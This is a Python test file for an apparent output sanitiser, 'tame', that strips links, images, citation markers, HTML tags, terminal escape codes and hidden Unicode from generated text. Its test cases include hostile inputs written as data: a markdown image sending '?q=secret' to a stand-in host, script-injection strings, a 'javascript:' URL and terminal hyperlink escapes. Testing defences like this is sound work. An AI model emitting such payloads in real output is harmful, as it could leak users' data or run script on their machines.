"""A writer's words cannot make a link, an element, a colour, or a citation number."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from suffice.answer.wording import tame


@pytest.mark.parametrize(
    ("hostile", "tamed"),
    [
        ("Plain words, 5 < 6.", "Plain words, 5 < 6."),
        ("See [the page](https://evil.example).", "See the page."),
        ("![x](https://evil.example/?q=secret)", "x"),
        ("[a][1]\n\n[1]: https://evil.example", "[a]"),
        ("Go to https://evil.example/a now", "Go to `https://evil.example/a` now"),
        ("Go to <https://evil.example>", "Go to `https://evil.example`"),
        ("javascript://x", "`javascript://x`"),
        ("<script>alert(1)</script>", "‹script›alert(1)‹/script›"),
        ("<img src=x onerror=alert(1)", "‹img src=x onerror=alert(1)"),
        ("&lt;b&gt;", "＆lt;b＆gt;"),
        ("It is free [2], as [1][3] says 【4†source】.", "It is free, as says."),
        ("\x1b[31mred\x1b[0m \x1b]8;;https://e\x07x\x1b]8;;\x07", "red x"),
        ("a\u202eb\u200bc\x00d\U000e0041", "abcd"),
        ("Use `<br>` and `[a](b)`.", "Use `<br>` and `[a](b)`."),
        ("```html\n<br>\n```\n<br>", "```html\n<br>\n```\n‹br›"),
        ("```\nnever closed <b>", "'''\nnever closed ‹b›"),
        ("a ```\n<b>\n``` c", "a '''\n‹b›\n''' c"),
        ("`a\n\n<b>`", "'a\n\n‹b›'"),
        ("", ""),
    ],
)
def test_it_is_tamed(hostile: str, tamed: str) -> None:
    assert tame(hostile) == tamed


@given(st.text(alphabet=st.sampled_from(list("[]()<>!`&#;:/ahtps.\n\x1b1 ")), max_size=80))
def test_nothing_outside_code_is_a_tag_or_a_link(text: str) -> None:
    tamed = tame(text)
    prose = re.sub(r"(?s)(`{3,}|~{3,})[^\n]*\n.*?\n[ \t]*\1|(`+).+?\2", "", tamed)
    assert not re.search(r"<[A-Za-z/!?]", prose)
    assert "\x1b" not in tamed
